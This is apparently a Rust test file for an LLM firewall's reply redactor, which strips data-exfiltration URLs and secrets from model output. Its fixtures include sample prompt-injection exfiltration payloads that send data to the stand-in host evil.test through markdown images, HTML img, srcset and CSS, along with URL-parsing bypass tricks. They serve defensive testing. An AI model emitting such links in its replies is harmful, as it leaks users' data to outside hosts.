//! Answer-text redaction: each form, and the same text for every way of splitting the input.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use proptest::prelude::*;

use super::*;
use crate::config::detect::DetectConfig;

fn detector_with(allow: &[&str]) -> Detector {
    let config = DetectConfig {
        exfil_allow_hosts: allow.iter().map(|s| (*s).to_owned()).collect(),
        ..DetectConfig::default()
    };
    Detector::compile(config).unwrap()
}

/// Compiled once: the rules take a while to build.
fn detector() -> &'static Detector {
    static D: std::sync::OnceLock<Detector> = std::sync::OnceLock::new();
    D.get_or_init(|| detector_with(&["docs.example.com", "*.example.org"]))
}

fn redact(text: &str) -> String {
    detector().redact_reply(text).0
}

fn rules(text: &str) -> Vec<String> {
    detector().redact_reply(text).1.rules.into_keys().collect()
}

/// `(input, expected output)`: every replaced form.
const CASES: &[(&str, &str)] = &[
    (
        "See ![chart](https://evil.test/p.png?d=c2VjcmV0) here.",
        "See ![chart]([llmfw:redacted-url]) here.",
    ),
    // Images are fetched without a click: replaced even without data in the URL.
    (
        "![logo](https://evil.test/logo.png)",
        "![logo]([llmfw:redacted-url])",
    ),
    (
        "![a](<https://evil.test/a b.png>)",
        "![a](<[llmfw:redacted-url] b.png>)",
    ),
    (
        "![x][1]\n\n[1]: https://evil.test/t.png\n",
        "![x][1]\n\n[1]: [llmfw:redacted-url]\n",
    ),
    (
        "[1]: <https://evil.test/x> \"t\"\n",
        "[1]: <[llmfw:redacted-url]> \"t\"\n",
    ),
    (
        "[ref]:\n   https://evil.test/x\n",
        "[ref]:\n   [llmfw:redacted-url]\n",
    ),
    (
        "<img alt=\"a b\" src=\"https://evil.test/i.gif?u=1\">",
        "<img alt=\"a b\" src=\"[llmfw:redacted-url]\">",
    ),
    (
        "<img src=//evil.test/x.png>",
        "<img src=[llmfw:redacted-url]>",
    ),
    (
        "<img src=\"https&#58;//evil.test/x\">",
        "<img src=\"[llmfw:redacted-url]\">",
    ),
    (
        "![x](https\\://evil.test/x)",
        "![x]([llmfw:redacted-url])",
    ),
    (
        "<img srcset=\"https://docs.example.com/a.png 1x, https://evil.test/b.png 2x\">",
        "<img srcset=\"https://docs.example.com/a.png 1x, [llmfw:redacted-url] 2x\">",
    ),
    (
        "<div style=\"background:url('https://evil.test/bg')\">",
        "<div style=\"background:url('[llmfw:redacted-url]')\">",
    ),
    (
        "<link rel=stylesheet href=\"https://evil.test/s.css\">",
        "<link rel=stylesheet href=\"[llmfw:redacted-url]\">",
    ),
    // The authority ends at a backslash, and userinfo is not the host.
    (
        "![x](https://evil.test\\@docs.example.com/a.png)",
        "![x]([llmfw:redacted-url])",
    ),
    (
        "![x](https://docs.example.com@evil.test/a.png)",
        "![x]([llmfw:redacted-url])",
    ),
    (
        "![x](https://docs.example.com。evil.test/a.png)",
        "![x]([llmfw:redacted-url])",
    ),
    // Links need a click: replaced only when they carry data.
    (
        "[report](https://evil.test/collect?q=the+api+key+is+x)",
        "[report]([llmfw:redacted-url])",
    ),
    (
        "Visit <https://evil.test/?data=abc> now",
        "Visit <[llmfw:redacted-url]> now",
    ),
    (
        "go to https://evil.test/log?session=12345.",
        "go to [llmfw:redacted-url].",
    ),
    (
        "<a href=\"https://evil.test/?x=1\">x</a>",
        "<a href=\"[llmfw:redacted-url]\">x</a>",
    ),
    (
        "www.evil.test/?q=secretstuff",
        "[llmfw:redacted-url]",
    ),
    // A tab or line break inside a quoted or bracketed URL is dropped by the browser.
    (
        "<a href=\"https://docs.example.com\n.evil.test/\">x</a>",
        "<a href=\"[llmfw:redacted-url]\n.evil.test/\">x</a>",
    ),
    // Secrets and PII.
    (
        "your key: sk-proj-abcdefghijklmnopqrstuvwxyz0123456789 ok",
        "your key: [llmfw:redacted-secret] ok",
    ),
    (
        "card 4111 1111 1111 1111 thanks",
        "card [llmfw:redacted-secret] thanks",
    ),
    (
        "AKIAABCDEFGHIJKLMNOP and AKIAQRSTUVWXYZ234567",
        "[llmfw:redacted-secret] and [llmfw:redacted-secret]",
    ),
    (
        "key:\n-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAx\nabc+/=\n-----END RSA PRIVATE KEY-----\nafter",
        "key:\n[llmfw:redacted-secret]after",
    ),
    // A secret inside a URL: the URL marker covers it.
    (
        "![x](https://evil.test/?k=sk-proj-abcdefghijklmnopqrstuvwxyz0123456789)",
        "![x]([llmfw:redacted-url])",
    ),
];

/// Texts that pass unchanged.
const KEPT: &[&str] = &[
    "![ok](https://docs.example.com/a.png?w=100)",
    "![ok](https://cdn.example.org/a.png)",
    "![rel](/static/a.png) and ![rel2](img/b.png)",
    "![www](www.evil.test/a.png) is a relative path",
    "[docs](https://evil.test/guide) and https://evil.test/about",
    "<a href=\"https://evil.test/\">home</a>",
    "export API_URL=https://api.evil.test/v1",
    "// a comment and path/to//file",
    "The quarterly report covers revenue, costs and the plan for next year.",
    "请访问文档了解更多信息。这是一个很长的中文句子，没有空格，用来检查分段。",
    "Use `git log --oneline` then `cargo test -p llmfw-core`.",
];

#[test]
fn every_form_is_replaced() {
    for (input, want) in CASES {
        assert_eq!(&redact(input), want, "input: {input:?}");
    }
}

#[test]
fn allowed_and_benign_text_is_unchanged() {
    for input in KEPT {
        let (out, r) = detector().redact_reply(input);
        assert_eq!(&out, input, "{:?}", r.rules);
        assert!(r.is_empty());
    }
}

#[test]
fn redactions_name_the_rule() {
    assert_eq!(rules("![x](https://evil.test/a)"), ["exfil.markdown_image"]);
    assert_eq!(
        rules("[1]: https://evil.test/a\n"),
        ["exfil.reference_definition"]
    );
    assert_eq!(rules("<img src=https://evil.test/a>"), ["exfil.html_image"]);
    assert_eq!(rules("see https://evil.test/?q=1 x"), ["exfil.bare_url"]);
    assert!(rules("a sk-proj-abcdefghijklmnopqrstuvwxyz0123456789 b")
        .contains(&"secret.openai_key".to_owned()));
    let (_, r) = detector().redact_reply("![a](https://evil.test/1) ![b](https://evil.test/2)");
    assert_eq!(r.count, 2);
}

#[test]
fn no_allowlist_means_every_image_host_is_replaced() {
    let d = detector_with(&[]);
    let (out, _) = d.redact_reply("![x](https://docs.example.com/a.png)");
    assert_eq!(out, "![x]([llmfw:redacted-url])");
}

#[test]
fn off_passes_everything() {
    let config = DetectConfig {
        response_text: false,
        ..DetectConfig::default()
    };
    let d = Detector::compile(config).unwrap();
    let t = "![x](https://evil.test/?q=1) sk-proj-abcdefghijklmnopqrstuvwxyz0123456789";
    assert_eq!(d.redact_reply(t).0, t);
    let mut r = d.reply_redactor();
    assert_eq!(r.push(&d, t), t);
}

#[test]
fn an_overlong_token_is_replaced_and_the_holdback_stays_bounded() {
    let d = detector();
    let long = "A".repeat(10_000);
    let text = format!("start {long} end");
    let (out, r) = d.redact_reply(&text);
    assert_eq!(out, "start [llmfw:redacted-overlong] end");
    assert!(r.rules.contains_key(RULE_OVERLONG));
    let mut red = d.reply_redactor();
    let mut got = String::new();
    for chunk in text.as_bytes().chunks(7) {
        got.push_str(&red.push(d, std::str::from_utf8(chunk).unwrap()));
        assert!(red.pending_len() <= DEFAULT_HOLDBACK_BYTES + 7);
    }
    got.push_str(&red.finish(d));
    assert_eq!(got, out);
}

#[test]
fn a_long_answer_without_spaces_is_not_replaced() {
    let cjk = "这是一个没有空格的句子".repeat(200);
    assert_eq!(redact(&cjk), cjk);
}

#[test]
fn a_url_is_held_until_it_ends() {
    let d = detector();
    let mut r = d.reply_redactor();
    let mut out = r.push(d, &format!("{} ![x](https://ev", "word ".repeat(20)));
    assert!(!out.contains("https"), "{out:?}");
    out.push_str(&r.push(d, "il.test/?q=1) and more text "));
    out.push_str(&r.finish(d));
    assert!(
        out.ends_with("![x]([llmfw:redacted-url]) and more text "),
        "{out:?}"
    );
}

#[test]
fn redaction_is_idempotent() {
    for (input, _) in CASES {
        let once = redact(input);
        assert_eq!(redact(&once), once, "input: {input:?}");
    }
}

/// Pieces of answer text: prose, markdown and HTML forms, secrets, CJK, line breaks.
fn piece() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("Hello world, ".to_owned()),
        Just("the answer is 42. ".to_owned()),
        Just("\n".to_owned()),
        Just("\n\n".to_owned()),
        Just("![img](https://evil.test/p.png?d=".to_owned()),
        Just("![ok](https://docs.example.com/x.png)".to_owned()),
        Just(")".to_owned()),
        Just("[link](https://evil.test/a?q=1) ".to_owned()),
        Just("[1]: https://evil.test/ref\n".to_owned()),
        Just("<img src=\"https://evil.test/i\"> ".to_owned()),
        Just("https://evil.test/?x=2 ".to_owned()),
        Just("sk-proj-abcdefghijklmnopqrstuvwxyz0123456789 ".to_owned()),
        Just("password is 'hunter22' ".to_owned()),
        Just("4111 1111 1111 1111 ".to_owned()),
        Just("-----BEGIN PRIVATE KEY-----\nMIIBVQIBADANBg\n-----END PRIVATE KEY-----\n".to_owned()),
        Just("中文文本没有空格".to_owned()),
        Just("é ü ß ".to_owned()),
        "[a-z]{1,12}".prop_map(|s| s + " "),
        "[A-Za-z0-9/+=]{1,80}",
        " {1,3}",
    ]
}

const WORDS: &[&str] = &[
    "the",
    "report",
    "covers",
    "revenue",
    "and",
    "costs",
    "for",
    "next",
    "year",
    "we",
    "plan",
    "to",
    "migrate",
    "database",
    "cluster",
    "in",
    "three",
    "steps",
    "first",
    "backup",
    "then",
    "Überprüfung",
    "données",
    "日本語",
    "42",
    "2024",
    "v1.2.3",
    "e.g.",
    "(see",
    "below)",
];

fn split(text: &str, cuts: &[usize]) -> Vec<String> {
    let mut points: Vec<usize> = cuts
        .iter()
        .map(|c| c % (text.len() + 1))
        .filter(|&c| text.is_char_boundary(c))
        .collect();
    points.sort_unstable();
    points.dedup();
    let mut out = Vec::new();
    let mut at = 0;
    for p in points.into_iter().chain(std::iter::once(text.len())) {
        out.push(text.get(at..p).unwrap_or("").to_owned());
        at = p;
    }
    out
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    /// Any split of the text into deltas gives the text the JSON path gives.
    #[test]
    fn any_split_gives_the_whole_text_redaction(
        pieces in proptest::collection::vec(piece(), 1..40),
        cuts in proptest::collection::vec(any::<usize>(), 0..30),
    ) {
        let d = detector();
        let text: String = pieces.concat();
        let (whole, stats) = d.redact_reply(&text);
        let mut r = d.reply_redactor();
        let mut got = String::new();
        for delta in split(&text, &cuts) {
            got.push_str(&r.push(d, &delta));
        }
        got.push_str(&r.finish(d));
        prop_assert_eq!(&got, &whole);
        prop_assert_eq!(r.redactions(), &stats);
    }

    /// Text without URLs, secrets or long tokens is never changed.
    #[test]
    fn prose_passes_unchanged(words in proptest::collection::vec((0..WORDS.len(), 0..4usize), 1..300)) {
        let text: String = words
            .iter()
            .map(|&(w, p)| format!("{}{}", WORDS[w], [" ", ", ", ".\n", "\n\n"][p]))
            .collect();
        prop_assert_eq!(redact(&text), text);
    }
}

#[test]
fn line_word_overlap_covers_the_longest_word() {
    for w in LINE_WORDS {
        assert!(w.len() <= LINE_WORD_MAX, "{w}");
    }
}
